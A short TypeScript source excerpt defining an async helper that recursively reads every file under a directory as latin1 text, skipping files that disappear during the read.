/** The contents of every file under a directory, as latin1 text (files written meanwhile may be gone: skipped). */
async function filesUnder(directory: string): Promise<string[]> {
  const entries = await readdir(directory, { recursive: true, withFileTypes: true });
  const contents = await Promise.all(
    entries.filter((entry) => entry.isFile()).map((entry) => readFile(join(entry.parentPath, entry.name), 'latin1').catch(() => '')),
  );
  return contents;
}
